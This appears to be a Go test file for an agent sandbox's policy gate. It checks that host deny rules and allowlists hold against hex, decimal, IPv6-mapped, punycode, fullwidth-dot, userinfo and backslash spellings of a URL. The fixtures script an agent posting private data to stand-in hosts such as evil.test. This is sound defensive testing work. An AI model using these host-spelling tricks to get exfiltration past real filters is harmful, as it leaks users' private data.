package taintgate

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/lever-jail/lever/internal/lev/policy"
	"github.com/lever-jail/lever/internal/lev/taint"
)

// TestPolicyHostLiteralsMeetEverySpelling (issue 27, item 3): a deny rule the user wrote
// in one spelling of a host holds against a call in any other, and the rest of the
// URL-spelling class (userinfo, backslash, tab, scheme-less, scheme-relative, a port,
// fullwidth dots) either reaches the deny rule as the host the server is sent to or is
// unclear and not waived by --yolo. Each row is a real run under --yolo that reads Private
// data and sends it with a real stdio MCP server's post tool (outbound, clearance
// internal). Each attack row has a control with the same url under a rule naming another
// host in the same spelling, which --yolo waives and the server receives (so the url
// reaches the gate and the tool as written, and the attack row fails without the fix).
func TestPolicyHostLiteralsMeetEverySpelling(t *testing.T) {
	const (
		deny    = "deny"    // PolicyDeny by rule[0], nothing reaches the server
		blocked = "blocked" // unclear: AutoBlock, --yolo does not waive it
		waived  = "waived"  // control: YoloAutoApprove, the server receives the call
	)
	rule := func(when string) string {
		return "[[rule]]\nname = \"r\"\nwhen = '" + when + "'\naction = \"deny\"\n"
	}
	for _, tc := range []struct {
		name, when, url, want, target string
	}{
		{"hex literal, numeric call", `target == "0x7f.1"`, "https://2130706433/x", deny, "127.0.0.1"},
		{"control: hex literal of another address", `target == "0x7f.2"`, "https://2130706433/x", waived, ""},
		{"decimal literal, dotted call", `target == "2130706433"`, "https://127.0.0.1/x", deny, "127.0.0.1"},
		{"mapped IPv6 literal in a list, short call", `target in ["a.test", "[::ffff:127.0.0.1]"]`, "https://127.1/x", deny, "127.0.0.1"},
		{"control: list of other addresses", `target in ["a.test", "[::ffff:127.0.0.2]"]`, "https://127.1/x", waived, ""},
		{"literal on the left", `"0x7f.1" == target`, "https://127.0.0.1/x", deny, "127.0.0.1"},
		{"not in: a listed host in another spelling is exempt", `target not in ["GOOD.TEST."]`, "https://good.test/x", waived, ""},
		{"not in: an unlisted host is denied", `target not in ["GOOD.TEST."]`, "https://evil.test/x", deny, "evil.test"},
		{"upper case with trailing dot", `target == "EVIL.TEST."`, "https://evil.test/x", deny, "evil.test"},
		{"control: upper case other name", `target == "GOOD.TEST."`, "https://evil.test/x", waived, ""},
		{"not-equal keeps its meaning", `target != "GOOD.TEST."`, "https://evil.test/x", deny, "evil.test"},
		{"control: not-equal of the called host", `target != "EVIL.TEST."`, "https://evil.test/x", waived, ""},
		{"unicode glob, punycode call", `glob("*.BÜCHER.test", target)`, "https://a.xn--bcher-kva.test/x", deny, "a.xn--bcher-kva.test"},
		{"punycode literal, unicode call", `target == "xn--bcher-kva.test"`, "https://bücher.test/x", deny, "xn--bcher-kva.test"},
		{"control: unicode glob of another name", `glob("*.bäcker.test", target)`, "https://a.xn--bcher-kva.test/x", waived, ""},
		{"endsWith in upper case", `target endsWith ".EVIL.TEST"`, "https://a.evil.test/x", deny, "a.evil.test"},
		{"control: endsWith of another name", `target endsWith ".GOOD.TEST"`, "https://a.evil.test/x", waived, ""},
		{"contains a unicode label", `target contains "bücher"`, "https://a.xn--bcher-kva.test/x", deny, "a.xn--bcher-kva.test"},
		{"control: contains another unicode label", `target contains "bäcker"`, "https://a.xn--bcher-kva.test/x", waived, ""},
		{"fullwidth dots in the call", `target == "evil.test"`, "https://evil\uff0etest/x", deny, "evil.test"},
		{"ideographic dot in the literal", `target == "evil\u3002test"`, "https://evil.test/x", deny, "evil.test"},
		{"control: fullwidth dots, other name", `target == "good.test"`, "https://evil\uff0etest/x", waived, ""},
		{"userinfo names the good host", `target == "evil.test"`, "https://good.test@evil.test/x", deny, "evil.test"},
		{"control: userinfo names the denied host", `target == "evil.test"`, "https://evil.test@good.test/x", waived, ""},
		{"explicit default port", `target == "evil.test"`, "https://evil.test:443/x", deny, "evil.test"},
		{"other port", `target == "evil.test"`, "http://evil.test:8080/x", deny, "evil.test"},
		{"backslash before userinfo", `target == "evil.test"`, `https://evil.test\\@good.test/x`, blocked, ""},
		{"tab inside the host", `target == "evil.test"`, "https://evil.te\\tst/x", blocked, ""},
		{"newline inside the host", `target == "evil.test"`, "https://evil.te\\nst/x", blocked, ""},
		{"scheme without slashes", `target == "evil.test"`, "http:evil.test/x", blocked, ""},
		{"scheme-relative", `target == "evil.test"`, "//evil.test/x", blocked, ""},
		{"IPv6 zone id", `target == "fe80::1"`, "https://[fe80::1%25eth0]/x", blocked, ""},
		{"control: unclear url waived with no rule on target", `tool == "web_search"`, "http:evil.test/x", waived, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Setenv("LEV_BENCH_SOCKET", "")
			w := newWorld(t)
			w.exec = mcpExec
			log := logFile(t, "web")
			o := w.run(t, runCase{
				tools:   []string{"read_file", "mcp__web__*"},
				script:  strings.ReplaceAll(script("one", "mcp__web__post", `{"url": "`+tc.url+`", "body": "{{last}}"}`), "HOME", w.home),
				policy:  rule(tc.when),
				yolo:    true,
				bpExtra: "[mcp]\nservers = [\"web\"]\n",
				config:  stdioServer("web", "web", log, w.wd, "classification = \"outbound\"\nclearance = \"internal\"\n"),
			})
			var ws want
			switch tc.want {
			case deny:
				ws = want{sources: []taint.Source{taint.SourcePolicyDeny}, rule: `rule[0] "r"`}
			case blocked:
				ws = want{sources: []taint.Source{taint.SourceAutoBlock}}
			case waived:
				ws = want{sources: []taint.Source{taint.SourceAutoBlock, taint.SourceYoloAutoApprove}}
			}
			ws.tool, ws.taint = "mcp__web__post", taint.Private
			checkAudit(t, o.audit, ws)
			rec := calls(o.audit)[0]
			if tc.target != "" && rec.Target != tc.target {
				t.Errorf("audit target %q, want %q", rec.Target, tc.target)
			}
			if tc.want == blocked && !strings.Contains(rec.Reason, "--yolo does not waive it") {
				t.Errorf("the block does not say why --yolo did not waive it: %s", rec.Reason)
			}
			got := received(t, log)
			if (tc.want == waived) != strings.Contains(got, "post ") {
				t.Fatalf("want %s, but the server received %q", tc.want, got)
			}
			if tc.want != waived && strings.Contains(got, secret) {
				t.Fatalf("the secret reached the server: %q", got)
			}
		})
	}
}

// TestAllowEntryHostSpellings: an allowlist entry written in another spelling of the
// loopback address covers the built-in http_post to it, which reaches the real loopback
// server; an entry naming another address in the same spelling does not (AutoBlock,
// nothing received), so the allowed rows fail if entries were matched as text.
func TestAllowEntryHostSpellings(t *testing.T) {
	for _, tc := range []struct {
		target  string
		allowed bool
	}{
		{"0x7f.1", true},
		{"2130706433", true},
		{"[::ffff:127.0.0.1]", true},
		{"127.0.0.1.", true},
		{"127.0.0.*", true},
		{"0x7f.2", false},
		{"[::ffff:127.0.0.2]", false},
		{"127.0.1.*", false},
	} {
		t.Run(tc.target, func(t *testing.T) {
			w := newWorld(t)
			allow := "[[allow]]\ntool = \"http_post\"\ntarget = \"" + tc.target + "\"\nmax_sensitivity = \"private\"\n"
			o := w.run(t, runCase{tools: []string{"read_file", "http_post"}, policy: allow,
				script: strings.ReplaceAll(script("one", "http_post", `{"url": "`+w.srv.URL+`/collect", "body": "{{last}}"}`), "HOME", w.home)})
			src, rule := taint.SourceAutoBlock, ""
			if tc.allowed {
				src, rule = taint.SourcePolicyAllow, "allow[0]"
			}
			checkAudit(t, o.audit, want{tool: "http_post", sources: []taint.Source{src}, taint: taint.Private, rule: rule})
			hits, bodies := w.received()
			if tc.allowed && (hits != 1 || !strings.Contains(bodies, secret)) {
				t.Fatalf("allowed, but the loopback server got %d requests: %q", hits, bodies)
			}
			if !tc.allowed && hits != 0 {
				t.Fatalf("blocked, but the server got %q", bodies)
			}
		})
	}
}

// TestAmbiguousHostLiteralsRefusedAtLoad: a host pattern whose numeric labels are not a
// dotted quad's decimal bytes could be an address in another spelling or a name; the
// policy file is refused with the file, the entry or rule and the reason, rather than
// matched as text (a deny that misses 127.0.0.1) or guessed (an allow that covers more).
// Controls: the same places with a canonical pattern load.
func TestAmbiguousHostLiteralsRefusedAtLoad(t *testing.T) {
	for _, tc := range []struct{ body, want string }{
		{"[[rule]]\nname = \"no loop\"\nwhen = 'glob(\"0x7f.*\", target)'\naction = \"deny\"\n", `rule[0].when ("no loop"): "0x7f.*" is compared with the target but spells a host ambiguously`},
		{"[[rule]]\nwhen = 'target in [\"0177.*\"]'\naction = \"deny\"\n", `rule[0].when: "0177.*"`},
		{"[[allow]]\ntool = \"web_fetch\"\ntarget = \"*.2130706433\"\nmax_sensitivity = \"private\"\n", `allow[0].target: "*.2130706433"`},
		{"[[allow]]\ntool = \"web_fetch\"\ntarget = \"*.bü*.test\"\nmax_sensitivity = \"private\"\n", "mixes a wildcard"},
		{"[[allow]]\ntool = \"web_fetch\"\ntarget = \"evil.test:443\"\nmax_sensitivity = \"private\"\n", `allow[0].target: "evil.test:443"`},
		{"[[rule]]\nwhen = 'target startsWith \"0x7F.\"'\naction = \"deny\"\n", `rule[0].when: "0x7F.*"`},
		{"[[rule]]\nwhen = 'glob(\"127.*\", target)'\naction = \"deny\"\n", ""},
		{"[[rule]]\nwhen = 'target startsWith \"127.0.\" and tool == \"shell\"'\naction = \"allow\"\n", ""},
		{"[[allow]]\ntool = \"web_fetch\"\ntarget = \"*.BÜCHER.test\"\nmax_sensitivity = \"private\"\n", ""},
	} {
		path := filepath.Join(t.TempDir(), "policy.toml")
		if err := os.WriteFile(path, []byte(tc.body), 0o600); err != nil {
			t.Fatal(err)
		}
		_, err := policy.Load(path)
		if tc.want == "" {
			if err != nil {
				t.Errorf("control %q: %v", tc.body, err)
			}
			continue
		}
		if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), path) {
			t.Errorf("%q: got %v, want an error naming %s and %q", tc.body, err, path, tc.want)
		}
	}
}
